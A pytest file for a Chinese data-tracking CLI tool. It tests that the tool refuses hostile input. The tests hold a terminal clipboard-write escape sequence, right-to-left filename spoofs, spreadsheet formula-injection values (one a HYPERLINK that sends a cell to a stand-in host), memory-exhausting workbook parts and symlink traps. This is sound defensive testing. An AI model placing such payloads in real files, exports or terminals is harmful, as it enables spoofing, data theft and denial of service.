"""Hostile and faulty ground (issue 14): data that tries to run code, change what was typed,
spoof the terminal or a spreadsheet, exhaust memory; a machine that fails under ftz.

Every case checks the contract: exit 0 or 1, no traceback, no "内部错误", and nothing
changed on disk when ftz refuses.
"""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest

HOSTILE = Path(__file__).parent / "hostile"
FLOW = "trade.import-export-2021"        # 亿元, a quantitative target
MILESTONE = "trade.pilot.new-barter-trade"
AS_OF = "2021-05-10"


def clean(result) -> None:
    """No traceback, no internal error: whatever happened was said in the user's words."""
    assert "内部错误" not in result.stderr and "Traceback" not in result.stderr, result.stderr


def snapshot(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes()
            for p in sorted(root.rglob("*")) if p.is_file() and ".cache" not in p.parts}


def refused_import(ftz, ws: Path, sheet: Path, text: str):
    """``ftz import`` of a CSV ``text``: refused in the user's words (exit 1), nothing written."""
    sheet.write_text(text, encoding="utf-8")
    before = snapshot(ws)
    result = ftz("--data", str(ws), "import", str(sheet))
    clean(result)
    assert result.exit_code == 1 and snapshot(ws) == before
    return result


def history(ftz, ws: Path, item: str) -> list[dict]:
    result = ftz("--data", str(ws), "show", item, "--format", "json")
    assert result.exit_code == 0, result.stderr
    return json.loads(result.stdout)["updates"]


# -- 1. no code from data --------------------------------------------------------------

def test_a_template_cannot_reach_os(ftz, ws: Path, tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    shutil.copyfile(HOSTILE / "ssti_report.md.j2", mine / "report.md.j2")
    result = ftz("--data", str(ws), "report", "--as-of", AS_OF, "--templates", str(mine))
    clean(result)
    assert result.exit_code == 1
    assert "PWNED" not in result.stdout + result.stderr
    assert "E406" in result.stderr and "不允许" in result.stderr


def test_a_template_cannot_change_a_list(ftz, ws: Path, tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    shutil.copyfile(HOSTILE / "mutate_report.md.j2", mine / "report.md.j2")
    result = ftz("--data", str(ws), "report", "--as-of", AS_OF, "--templates", str(mine))
    clean(result)
    assert result.exit_code == 1 and "E406" in result.stderr and "report.md.j2:2" in result.stderr


def test_a_workspace_templates_folder_is_not_picked_up(ftz, ws: Path) -> None:
    (ws / "templates").mkdir()
    shutil.copyfile(HOSTILE / "ssti_report.md.j2", ws / "templates" / "report.md.j2")
    result = ftz("--data", str(ws), "report", "--as-of", AS_OF)
    clean(result)
    assert result.exit_code == 0 and "PWNED" not in result.stdout
    assert result.stdout.startswith("# ")
    checked = ftz("--data", str(ws), "validate")
    assert checked.exit_code == 0
    assert "templates: 警告 W220" in checked.stderr and "模板：内置模板" in checked.stderr


def test_validate_lists_the_templates_named_in_the_settings(ftz, ws: Path) -> None:
    (ws / "mine").mkdir()
    (ws / "mine" / "report.md.j2").write_text("自定义 {{ title }}\n", encoding="utf-8")
    (ws / "ftz.yaml").write_text("report:\n  templates: mine\n", encoding="utf-8")
    checked = ftz("--data", str(ws), "validate")
    assert checked.exit_code == 0, checked.stderr
    assert "模板：mine 中的 report.md.j2，其余用内置模板" in checked.stderr
    assert ftz("--data", str(ws), "report", "--as-of", AS_OF).stdout.startswith("自定义 ")
    (ws / "ftz.yaml").write_text("report:\n  templates: missing\n", encoding="utf-8")
    missing = ftz("--data", str(ws), "validate")
    clean(missing)
    assert missing.exit_code == 1 and "E404" in missing.stderr and "missing" in missing.stderr


# -- 2. what was typed is what is stored -----------------------------------------------

def test_hand_edited_yaml_keeps_what_was_typed(ftz, ws: Path) -> None:
    shutil.copyfile(HOSTILE / "yaml11_updates.yaml", ws / "updates" / "2021-04.yaml")
    checked = ftz("--data", str(ws), "validate")
    assert checked.exit_code == 0, checked.stderr
    [flow] = history(ftz, ws, FLOW)
    assert (flow["value"], flow["note"], flow["by"]) == (100, "9:30", "on")  # not 64, "570", "True"
    [milestone] = history(ftz, ws, MILESTONE)
    assert (milestone["note"], milestone["by"]) == ("yes", "0700")


def test_imported_yaml_keeps_what_was_typed(ftz, ws: Path) -> None:
    result = ftz("--data", str(ws), "import", str(HOSTILE / "yaml11_import.yaml"))
    assert result.exit_code == 0, result.stderr
    [flow] = history(ftz, ws, FLOW)
    assert (flow["value"], flow["note"], flow["by"]) == (100, "9:30", "off")


@pytest.mark.parametrize(("typed", "code"), [("1_000", "E204"), ("0x10", "E204"), (".inf", "E204"),
                                             ("1e308", "E230"), ("1e16万亿", "E230")])
def test_a_yaml_value_goes_through_the_command_line_parser(ftz, ws: Path, typed: str, code: str) -> None:
    (ws / "updates" / "2021-04.yaml").write_text(
        f"- id: {FLOW}\n  date: 2021-03-31\n  value: {typed}\n", encoding="utf-8")
    checked = ftz("--data", str(ws), "validate")
    clean(checked)
    assert checked.exit_code == 1 and f"updates/2021-04.yaml:3:10: 错误 {code}" in checked.stderr


def test_the_plan_is_read_by_yaml_1_2_rules(ftz, ws: Path) -> None:
    plan = ws / "targets.yaml"
    text = plan.read_text(encoding="utf-8")
    assert "    target: 3500\n" in text
    plan.write_text(text.replace("    target: 3500\n", "    target: 03500\n", 1), encoding="utf-8")
    listed = json.loads(ftz("--data", str(ws), "list", "--format", "json").stdout)
    assert {r["id"]: r["target"] for r in listed}[FLOW] == 3500  # not octal 1856


def test_a_fullwidth_colon_is_named(ftz, ws: Path) -> None:
    shutil.copyfile(HOSTILE / "fullwidth_colon.yaml", ws / "updates" / "2021-04.yaml")
    checked = ftz("--data", str(ws), "validate")
    clean(checked)
    assert "updates/2021-04.yaml:2:7: 错误 E101 字段名后用了中文冒号“：”" in checked.stderr


# -- 3. text that cannot spoof ---------------------------------------------------------

SPOOF = {
    "osc52": "\x1b]52;c;ZWNobyBwd25lZA==\x07",  # writes the clipboard of a terminal
    "nul": "a\x00b",
    "c1": "a\x9bb",
    "rtl": "invoice\u202efdp.exe",
    "zero-width": "a\u200bb",
    "bare-cr": "good\rBAD!",
}


@pytest.mark.parametrize("name", SPOOF)
def test_invisible_characters_are_refused_in_new_input(ftz, ws: Path, name: str) -> None:
    before = snapshot(ws)
    result = ftz("--data", str(ws), "update", FLOW, "--value", "1", "--date", "2021-03-31",
                 "--note", SPOOF[name])
    clean(result)
    assert result.exit_code == 1 and "E231" in result.stderr and "note" in result.stderr
    assert SPOOF[name] not in result.stderr
    assert snapshot(ws) == before


def test_invisible_characters_are_refused_in_an_import(ftz, ws: Path, tmp_path: Path) -> None:
    result = refused_import(ftz, ws, tmp_path / "in.csv", f"id,date,value,by\n{FLOW},2021-03-31,1,\"x\u202ey\"\n")
    assert "in.csv:2:" in result.stderr and "E231" in result.stderr and "双向文字控制符" in result.stderr


def _old_record(ws: Path, note: str) -> None:
    """A record written before ftz refused such text (JSON escapes are YAML escapes)."""
    (ws / "updates" / "2021-04.yaml").write_text(
        f"- id: {FLOW}\n  date: 2021-03-31\n  value: 1\n  note: {json.dumps(note)}\n"
        f"  by: {json.dumps(note)}\n", encoding="utf-8")


@pytest.mark.parametrize("name", SPOOF)
def test_old_data_is_printed_escaped(ftz, ws: Path, name: str, tmp_path: Path) -> None:
    note = SPOOF[name]
    _old_record(ws, note)
    assert ftz("--data", str(ws), "validate").exit_code == 0  # old data stays readable
    [stored] = history(ftz, ws, FLOW)
    assert stored["note"] == note  # JSON keeps it exactly (escaped the JSON way)
    text = ftz("--data", str(ws), "show", FLOW)
    assert note not in text.stdout and "\\u" in text.stdout
    bad = set(note) - set("abgoodBAD!invoicefdp.exe]52;cZWNobyBwd25lZA==")
    for args in (["show", FLOW], ["report", "--as-of", "2021-04-30"],
                 ["report", "--as-of", "2021-04-30", "-f", "html"],
                 ["list", "--format", "csv"], ["list", "--format", "json"], ["list"]):
        out = ftz("--data", str(ws), *args)
        assert out.exit_code == 0, (args, out.stderr)
        assert not bad & set(out.stdout), args
    weekly = tmp_path / "wk"
    assert ftz("--data", str(ws), "weekly", "--from", "2021-04-01", "--to", "2021-04-07",
               "--out", str(weekly), "-f", "html", "-f", "md").exit_code == 0
    for page in weekly.glob("*.*"):
        if page.suffix in (".md", ".html"):
            assert not bad & set(page.read_text(encoding="utf-8")), page


def test_old_control_characters_are_escaped_in_word_documents(ftz, ws: Path, tmp_path: Path) -> None:
    """python-docx refuses NUL and ESC: a brief, a weekly brief or a notice from old data that
    holds them is written with them escaped, never an internal error."""
    _old_record(ws, "a\x00b\x1b[2J\u202ec")
    plan = ws / "targets.yaml"
    plan.write_text(plan.read_text(encoding="utf-8").replace(
        "    title: 2021年进出口额超3500亿元\n", '    title: "\\e[2J2021年进出口\\0额"\n', 1), encoding="utf-8")
    brief, weekly, notices = tmp_path / "b.docx", tmp_path / "wk", tmp_path / "n"
    for args in (["report", "--as-of", "2021-04-30", "-o", str(brief)],
                 ["weekly", "--from", "2021-03-29", "--to", "2021-04-04", "--out", str(weekly), "-f", "docx"],
                 ["remind", "--as-of", "2021-04-30", "--format", "docx", "-o", str(notices)]):
        out = ftz("--data", str(ws), *args)
        clean(out)
        assert out.exit_code == 0, (args, out.stderr)
    import zipfile
    documents = [brief, *weekly.glob("*.docx"), *notices.glob("*.docx")]
    assert len(documents) >= 3
    texts = [zipfile.ZipFile(d).read("word/document.xml").decode("utf-8") for d in documents]
    assert all("\x00" not in t and "\x1b" not in t and "\u202e" not in t for t in texts)
    assert any("\\u0000" in t for t in texts) and any("\\u001b[2J" in t for t in texts)


def test_a_plan_title_with_an_escape_sequence_is_shown_escaped(ftz, ws: Path, tmp_path: Path) -> None:
    plan = ws / "targets.yaml"
    plan.write_text(plan.read_text(encoding="utf-8").replace(
        "    title: 2021年进出口额超3500亿元\n", '    title: "\\e[2J2021年进出口额\\u202e超3500亿元"\n', 1),
        encoding="utf-8")
    for args in (["list"], ["list", "--format", "csv"], ["show", FLOW]):
        out = ftz("--data", str(ws), *args)
        assert out.exit_code == 0 and "\x1b" not in out.stdout and "\u202e" not in out.stdout, args
        assert "\\u001b[2J" in out.stdout
    sheet = tmp_path / "s.xlsx"
    made = ftz("--data", str(ws), "sheet", "-o", str(sheet))
    assert made.exit_code == 0, made.stderr  # a workbook cannot hold ESC: never an internal error


# -- 6. formula-safe exports -----------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://x.test/?\"&A1,\"点击\")", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


def _titled(ws: Path, title: str) -> None:
    plan = ws / "targets.yaml"
    plan.write_text(plan.read_text(encoding="utf-8").replace(
        "    title: 2021年进出口额超3500亿元\n", f"    title: {json.dumps(title)}\n", 1), encoding="utf-8")


@pytest.mark.parametrize("title", FORMULAS)
def test_a_formula_title_is_text_in_the_csv(ftz, ws: Path, title: str) -> None:
    import csv
    import io

    _titled(ws, title)
    result = ftz("--data", str(ws), "list", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(result.stdout))}
    stored = {r["id"]: r["title"] for r in json.loads(
        ftz("--data", str(ws), "list", "--format", "json").stdout)}[FLOW]
    assert stored.startswith(("=", "+", "-", "@", "\t", "\r"))  # the plan keeps it (stripped)
    assert rows[FLOW]["title"] == "'" + stored.replace("\r", "\\u000d")


@pytest.mark.parametrize("title", FORMULAS)
def test_a_formula_title_is_text_in_the_sheet(ftz, ws: Path, tmp_path: Path, title: str) -> None:
    import zipfile

    import openpyxl

    _titled(ws, title)
    out = tmp_path / "s.xlsx"
    result = ftz("--data", str(ws), "sheet", "-o", str(out))
    assert result.exit_code == 0, result.stderr
    with zipfile.ZipFile(out) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    book = openpyxl.load_workbook(out)
    [cell] = [row[2] for row in book.worksheets[0].iter_rows(min_row=2) if row[0].value == FLOW]
    assert cell.data_type == "s" and cell.quotePrefix
    assert cell.value.replace("\\u000d", "\r").startswith(("=", "+", "-", "@", "\t", "\r"))


# -- 8. honest clocks ------------------------------------------------------------------

def test_a_record_dated_after_this_pcs_today_is_a_warning(ftz, ws: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    import datetime as dt
    import importlib
    import pkgutil

    import ftz_cli

    # every module imported before today() is patched: one first imported while it is would
    # keep the patched day after this test (``from ... import today``), failing later tests
    for module in pkgutil.walk_packages(ftz_cli.__path__, "ftz_cli."):
        if not module.name.endswith("__main__"):
            importlib.import_module(module.name)
    (ws / "updates" / "2021-04.yaml").write_text(
        f"- id: {FLOW}\n  date: 2021-04-30\n  value: 1200\n  recorded_at: 2021-04-30T10:00:00+08:00\n",
        encoding="utf-8")
    monkeypatch.setattr("ftz_cli.parse.dates.today", lambda: dt.date(2021, 4, 20))
    for module in ("list_", "show", "report", "record"):  # validate: its request carries the day
        monkeypatch.setattr(f"ftz_cli.commands.{module}.today", lambda: dt.date(2021, 4, 20))
    checked = ftz("--data", str(ws), "validate")
    assert checked.exit_code == 0, checked.stderr
    assert "updates/2021-04.yaml:2:9: 警告 W221" in checked.stderr
    listed = ftz("--data", str(ws), "list", "--as-of", "2021-05-01", "--format", "json")
    assert listed.exit_code == 0
    assert {r["id"]: r["value"] for r in json.loads(listed.stdout)}[FLOW] == 1200
    # new input dated after today is still refused
    new = ftz("--data", str(ws), "update", FLOW, "--value", "2", "--date", "2021-04-25")
    assert new.exit_code == 1 and "E209" in new.stderr


# -- 4. every OS failure is an error with a code, a message and a hint -------------------

def _fail_for(monkeypatch: pytest.MonkeyPatch, method: str, name: str, code: int) -> None:
    """Path.<method> fails with ``code`` for a file or folder called ``name``."""
    import errno
    import os

    real = getattr(Path, method)

    def failing(self: Path, *args, **kwargs):
        if self.name == name:
            raise OSError(code, os.strerror(code), str(self))
        return real(self, *args, **kwargs)

    monkeypatch.setattr(Path, method, failing)
    assert errno.errorcode[code]


def test_an_unreadable_updates_folder_is_an_error_not_an_empty_workspace(
        ftz, ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import errno

    _fail_for(monkeypatch, "iterdir", "updates", errno.EACCES)
    for args in (["validate"], ["list"], ["report"]):
        result = ftz("--data", str(ws), *args)
        clean(result)
        assert result.exit_code == 1 and "E006" in result.stderr and "ls -ld" in result.stderr, args
        assert "未报送" not in result.stdout


def test_an_unreadable_settings_file_names_its_path(ftz, ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import errno

    (ws / "ftz.yaml").write_text("report:\n  title: 试\n", encoding="utf-8")
    _fail_for(monkeypatch, "stat", "ftz.yaml", errno.EACCES)  # ftz.yaml is looked at before it is read
    result = ftz("--data", str(ws), "validate")
    clean(result)
    assert result.exit_code == 1 and "E005" in result.stderr and "没有权限" in result.stderr
    assert f"ls -ld {ws / 'ftz.yaml'}" in result.stderr


@pytest.mark.parametrize(("code", "words"), [("ENOSPC", "磁盘已满"), ("EROFS", "只读"),
                                             ("EPERM", "没有权限"), ("EIO", "磁盘出错")])
def test_a_failing_disk_under_update_writes_nothing(ftz, ws: Path, monkeypatch: pytest.MonkeyPatch,
                                                    code: str, words: str) -> None:
    import errno
    import os
    import tempfile

    def failing(*args, **kwargs):
        raise OSError(getattr(errno, code), os.strerror(getattr(errno, code)), str(ws / "updates"))

    monkeypatch.setattr(tempfile, "mkstemp", failing)
    before = snapshot(ws)
    result = ftz("--data", str(ws), "update", FLOW, "--value", "1", "--date", "2021-03-31")
    clean(result)
    assert result.exit_code == 1 and "E005" in result.stderr and words in result.stderr
    assert str(ws / "updates") in result.stderr and "已完整写入" not in result.stderr
    assert {k: v for k, v in snapshot(ws).items() if not k.endswith(".lock")} == before


@pytest.mark.parametrize(("code", "words"), [("ENOSPC", "磁盘已满"), ("EROFS", "只读"), ("EACCES", "没有权限")])
def test_a_failing_disk_under_an_output_file_names_it_in_chinese(ftz, ws: Path, tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch,
                                                                  code: str, words: str) -> None:
    """The file the user asked for is named, in Chinese — not ftz's list of outputs beside it
    (.ftz-outputs.json, written first), nor the system's English (No space left on device)."""
    import errno
    import os
    import tempfile

    def failing(*args, **kwargs):
        raise OSError(getattr(errno, code), os.strerror(getattr(errno, code)), kwargs.get("dir"))

    monkeypatch.setattr(tempfile, "mkstemp", failing)
    for name, args in (("进度.csv", ["list", "--format", "csv"]), ("填报表.xlsx", ["sheet"])):
        result = ftz("--data", str(ws), *args, "-o", str(tmp_path / name))
        clean(result)
        assert result.exit_code == 1 and "E405" in result.stderr and words in result.stderr, result.stderr
        assert f"“{tmp_path / name}”" in result.stderr and ".ftz-outputs" not in result.stderr, result.stderr
        assert os.strerror(getattr(errno, code)) not in result.stderr
        assert not (tmp_path / name).exists()


def test_a_read_only_workspace_issues_no_brief_it_cannot_log(ftz, ws: Path, tmp_path: Path,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    """A brief written elsewhere from a read-only workspace would carry a 期号 no log holds
    (the next one would carry it again): refused before any file is written, --draft works."""
    import errno
    import os

    from ftz_cli.store import lock

    real = lock.file_lock

    def read_only(path: Path):
        if path.parent.name == "updates":
            raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(path))
        return real(path)

    monkeypatch.setattr(lock, "file_lock", read_only)
    before = snapshot(ws)
    for args in (["report", "--as-of", AS_OF, "-o", str(tmp_path / "简报.md")],
                 ["weekly", "--from", "2021-03-29", "--to", "2021-04-04", "--out", str(tmp_path / "wk")]):
        result = ftz("--data", str(ws), *args)
        clean(result)
        assert result.exit_code == 1 and "E005" in result.stderr and "只读" in result.stderr, result.stderr
        assert "--draft" in result.stderr and "已完整写入" not in result.stderr, result.stderr
    assert not (tmp_path / "简报.md").exists() and not list(tmp_path.glob("wk/*"))
    assert snapshot(ws) == before
    draft = ftz("--data", str(ws), "report", "--as-of", AS_OF, "--draft", "-o", str(tmp_path / "草稿.md"))
    assert draft.exit_code == 0 and (tmp_path / "草稿.md").is_file(), draft.stderr


def test_a_path_with_spaces_is_shell_quoted_in_a_hint(ftz, tmp_path: Path, ws: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    import errno

    spaced = tmp_path / "my work space"
    shutil.copytree(ws, spaced)
    _fail_for(monkeypatch, "iterdir", "updates", errno.EACCES)
    result = ftz("--data", str(spaced), "validate")
    assert f"ls -ld '{spaced / 'updates'}'" in result.stderr


def test_stdout_to_a_full_device(tmp_path: Path, ws: Path) -> None:
    from conftest import run_bash

    for command in ("list", "list --format json", f"show {FLOW}", "report"):
        done = run_bash(f"ftz --data {ws} {command} > /dev/full", tmp_path)
        assert done.returncode == 1, (command, done.stderr)
        assert "E005" in done.stderr and "Traceback" not in done.stderr
        assert "内部错误" not in done.stderr and "Exception ignored" not in done.stderr


def test_an_output_after_the_records_were_written_says_so(tmp_path: Path, ws: Path) -> None:
    from conftest import run_bash

    done = run_bash(f"ftz --data {ws} update {FLOW} --value 5 --date 2021-03-31 > /dev/full", tmp_path)
    assert done.returncode == 1 and "E005" in done.stderr
    assert "出错之前已完整写入" in done.stderr and "updates/" in done.stderr
    assert '"value": 5, ' in "".join(p.read_text(encoding="utf-8") for p in (ws / "updates").glob("**/*.yaml"))


# -- 8. honest interrupts ----------------------------------------------------------------

def test_ctrl_c_after_the_records_were_written_says_so(ftz, ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr("ftz_cli.views.echo.summary_lines", interrupted)
    result = ftz("--data", str(ws), "update", FLOW, "--value", "1", "--date", "2021-03-31")
    assert result.exit_code == 130
    assert "未写入任何内容" not in result.stderr and "中断前已完整写入" in result.stderr
    assert "updates/" in result.stderr


def test_ctrl_c_before_anything_was_written_says_so(ftz, ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr("ftz_cli.store.append.append", interrupted)
    before = snapshot(ws)
    result = ftz("--data", str(ws), "update", FLOW, "--value", "1", "--date", "2021-03-31")
    assert result.exit_code == 130 and "已中断，未写入任何内容。" in result.stderr
    assert {k: v for k, v in snapshot(ws).items() if not k.endswith(".lock")} == before


# -- 9. the smaller items ----------------------------------------------------------------

def test_a_failed_init_leaves_nothing(ftz, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import errno

    _fail_for(monkeypatch, "write_bytes", "ftz.yaml", errno.ENOSPC)
    target = tmp_path / "new" / "ws"
    result = ftz("init", str(target))
    clean(result)
    assert result.exit_code == 1 and "E405" in result.stderr
    assert f"磁盘已满，无法写入“{target / 'ftz.yaml'}”" in result.stderr and "No space" not in result.stderr
    assert not (tmp_path / "new").exists()
    monkeypatch.undo()
    assert ftz("init", str(target)).exit_code == 0  # and a second try works
    assert (target / "targets.yaml").is_file()


@pytest.mark.parametrize("name", ["document.txt", "targets.yaml", "ftz.yaml", "updates"])
def test_init_never_writes_through_a_link(ftz, tmp_path: Path, name: str) -> None:
    """A folder with document.txt → a file elsewhere: init overwrote that file; a dangling
    targets.yaml or ftz.yaml link made a file elsewhere; updates → a folder elsewhere got its .gitignore
    replaced. Each is E007, nothing written, the file elsewhere untouched."""
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "mine.txt").write_text("MINE", encoding="utf-8")
    (outside / ".gitignore").write_text("MINE", encoding="utf-8")
    folder = tmp_path / "ws"
    folder.mkdir()
    into = {"updates": outside, "document.txt": outside / "mine.txt"}.get(name, outside / "new.yaml")  # dangling
    (folder / name).symlink_to(into)
    result = ftz("init", str(folder))
    clean(result)
    assert result.exit_code == 1 and "E007" in result.stderr and name in result.stderr, result.stderr
    assert sorted(p.name for p in outside.iterdir()) == [".gitignore", "mine.txt"]
    assert {p.read_text(encoding="utf-8") for p in outside.iterdir()} == {"MINE"}
    assert [p.name for p in folder.iterdir()] == [name]


def test_init_names_a_spaced_path_shell_quoted(ftz, tmp_path: Path) -> None:
    target = tmp_path / "my ws"
    result = ftz("init", str(target))
    assert result.exit_code == 0
    assert f"下一步：cd '{target}'" in result.stderr and f"--data '{target}'" in result.stderr
    sample = tmp_path / "it's here"
    made = ftz("init", "--example", str(sample))
    assert made.exit_code == 0, made.stderr
    assert "-o '" + str(sample).replace("'", "'\"'\"'") + "/简报.html'" in made.stderr


def test_a_notepad_bom_keeps_the_next_record_in_the_same_file(ftz, ws: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    import datetime as dt

    from ftz_cli.parse.dates import CHINA

    monkeypatch.setattr("ftz_cli.store.append._now", lambda: dt.datetime(2021, 4, 2, 9, tzinfo=CHINA))
    monkeypatch.setenv("FTZ_WRITER", "zhang")
    log = ws / "updates" / "2021-04" / "zhang.yaml"  # this writer's log for the month
    log.parent.mkdir()
    log.write_bytes(b"\xef\xbb\xbf# saved by Notepad\n- id: " + FLOW.encode()
                    + b"\n  date: 2021-03-30\n  value: 1\n")
    result = ftz("--data", str(ws), "update", FLOW, "--value", "2", "--date", "2021-03-31")
    assert result.exit_code == 0, result.stderr
    assert sorted(p.name for p in (ws / "updates").glob("**/*.yaml")) == ["zhang.yaml"]
    assert log.read_bytes().startswith(b"\xef\xbb\xbf# saved by Notepad\n")
    assert ftz("--data", str(ws), "validate").exit_code == 0
    assert [u["value"] for u in history(ftz, ws, FLOW)] == [1, 2]


def test_an_empty_document_does_not_turn_the_quote_check_off(ftz, ws: Path) -> None:
    (ws / "document.txt").write_text("", encoding="utf-8")
    result = ftz("--data", str(ws), "validate")
    clean(result)
    assert result.exit_code == 1 and "document.txt: 错误 E003" in result.stderr


def test_a_symlinked_lock_is_not_followed(ftz, ws: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep\n", encoding="utf-8")
    (ws / "updates" / ".lock").symlink_to(victim)
    before = snapshot(ws)
    result = ftz("--data", str(ws), "update", FLOW, "--value", "1", "--date", "2021-03-31")
    clean(result)
    assert result.exit_code == 1 and "E007" in result.stderr and "rm " in result.stderr
    assert victim.read_text(encoding="utf-8") == "keep\n" and snapshot(ws) == before
    dangling = tmp_path / "nowhere"
    (ws / "updates" / ".lock").unlink()
    (ws / "updates" / ".lock").symlink_to(dangling)
    assert ftz("--data", str(ws), "update", FLOW, "--value", "1", "--date", "2021-03-31").exit_code == 1
    assert not dangling.exists()


def test_a_symlinked_monthly_file_is_neither_read_nor_replaced(ftz, ws: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere.yaml"
    elsewhere.write_text(f"- id: {FLOW}\n  date: 2021-03-30\n  value: 1\n", encoding="utf-8")
    (ws / "updates" / "2021-04.yaml").symlink_to(elsewhere)
    checked = ftz("--data", str(ws), "validate")
    clean(checked)
    assert checked.exit_code == 1 and "updates/2021-04.yaml: 错误 E007" in checked.stderr
    result = ftz("--data", str(ws), "update", FLOW, "--value", "2", "--date", "2021-03-31")
    assert result.exit_code == 1 and (ws / "updates" / "2021-04.yaml").is_symlink()
    assert elsewhere.read_text(encoding="utf-8").count("- id:") == 1


# -- 7. bounded work -------------------------------------------------------------------

@pytest.mark.parametrize("device", ["/dev/zero", "/dev/null", "/dev/urandom"])
def test_a_device_is_not_imported(ftz, ws: Path, device: str) -> None:
    before = snapshot(ws)
    result = ftz("--data", str(ws), "import", device, "--format", "csv")
    clean(result)
    assert result.exit_code == 1 and "E009" in result.stderr and snapshot(ws) == before


def test_a_fifo_is_not_imported_nor_read_as_a_log(ftz, ws: Path, tmp_path: Path) -> None:
    import os

    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    result = ftz("--data", str(ws), "import", str(fifo))  # would wait for a writer for ever
    clean(result)
    assert result.exit_code == 1 and "E009" in result.stderr and "ftz import -" in result.stderr
    os.mkfifo(ws / "updates" / "2021-04.yaml")
    checked = ftz("--data", str(ws), "validate")
    assert checked.exit_code == 1 and "updates/2021-04.yaml: 错误 E009" in checked.stderr


def test_an_endless_stdin_is_bounded(tmp_path: Path, ws: Path) -> None:
    from conftest import run_bash

    done = run_bash(f"ftz --data {ws} import - --format csv < /dev/zero", tmp_path)
    assert done.returncode == 1 and "E004" in done.stderr and "Traceback" not in done.stderr


def _workbook(tmp_path: Path, replace: dict[str, bytes]) -> Path:
    """A real fill-in workbook with some of its parts replaced by hostile ones."""
    import zipfile

    import openpyxl

    book = openpyxl.Workbook()
    book.active.append(["id", "date", "value"])
    book.active.append([FLOW, "2021-03-31", "shared"])
    plain = tmp_path / "plain.xlsx"
    book.save(plain)
    out = tmp_path / "hostile.xlsx"
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, replace.get(name, source.read(name)))
        for name in set(replace) - set(source.namelist()):
            target.writestr(name, replace[name])
    return out


_NS = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


@pytest.mark.parametrize(("part", "body"), [
    ("xl/sharedStrings.xml", b"<sst " + _NS + b">" + b"<si><t>a</t></si>" * 600_000 + b"</sst>"),
    ("xl/styles.xml", b"<styleSheet " + _NS + b"><fonts>" + b"<font/>" * 120_000 + b"</fonts></styleSheet>"),
    ("xl/worksheets/sheet1.xml", b"<worksheet " + _NS + b"><sheetData><row r=\"1\">"
     + b"<c/>" * 5_100_000 + b"</row></sheetData></worksheet>"),
])
def test_a_small_workbook_that_would_cost_gigabytes_is_refused_first(
        ftz, ws: Path, tmp_path: Path, part: str, body: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    import openpyxl

    def never(*args, **kwargs):
        raise AssertionError("openpyxl was asked to read a workbook that should have been refused")

    monkeypatch.setattr(openpyxl, "load_workbook", never)
    hostile = _workbook(tmp_path, {part: body})
    assert hostile.stat().st_size < 1024 * 1024
    result = ftz("--data", str(ws), "import", str(hostile))
    clean(result)
    assert result.exit_code == 1 and "E008" in result.stderr


@pytest.mark.parametrize("row", [b"<c/>" * 600, b'<c r="A1"/><c r="XFD1"/>'])
def test_a_row_wider_than_a_sheet_is_refused_before_it_is_built(ftz, ws: Path, tmp_path: Path,
                                                                row: bytes) -> None:
    hostile = _workbook(tmp_path, {"xl/worksheets/sheet1.xml": b"<worksheet " + _NS
                                   + b'><sheetData><row r="1">' + row + b"</row></sheetData></worksheet>"})
    result = ftz("--data", str(ws), "import", str(hostile))
    clean(result)
    assert result.exit_code == 1 and "E310" in result.stderr and "一行超过 500 列" in result.stderr


def test_a_workbook_within_bounds_is_still_read(ftz, ws: Path, tmp_path: Path) -> None:
    book = _workbook(tmp_path, {})
    result = ftz("--data", str(ws), "import", str(book), "--dry-run")
    assert "E008" not in result.stderr  # "shared" is no number: E204, read and checked
    assert result.exit_code == 1 and "E204" in result.stderr


def test_a_huge_text_cell_is_refused_not_stored_where_no_one_can_read_it(ftz, ws: Path, tmp_path: Path) -> None:
    """A 95 MB note in a workbook made a record file over the 64 MB that ftz reads: every
    command, on every desk after git pull, then stopped at E004. A field of new input has at
    most 20,000 characters (E024), named at its cell; 20,000 are stored."""
    from ftz_cli.parse.records import MOST_CHARACTERS

    sheet = tmp_path / "in.csv"
    result = refused_import(ftz, ws, sheet, f"id,date,value,note\n{FLOW},2021-03-31,1,{'进' * (MOST_CHARACTERS + 1)}\n")
    assert "in.csv:2:4: 错误 E024" in result.stderr and "20,001" in result.stderr
    before = snapshot(ws)
    long = ftz("--data", str(ws), "update", FLOW, "--value", "1", "--date", "2021-03-31", "--note", "进" * 20_001)
    assert long.exit_code == 1 and "E024" in long.stderr and snapshot(ws) == before
    sheet.write_text(f"id,date,value,note\n{FLOW},2021-03-31,1,{'进' * MOST_CHARACTERS}\n", encoding="utf-8")
    assert ftz("--data", str(ws), "import", str(sheet)).exit_code == 0
    assert history(ftz, ws, FLOW)[0]["note"] == "进" * MOST_CHARACTERS


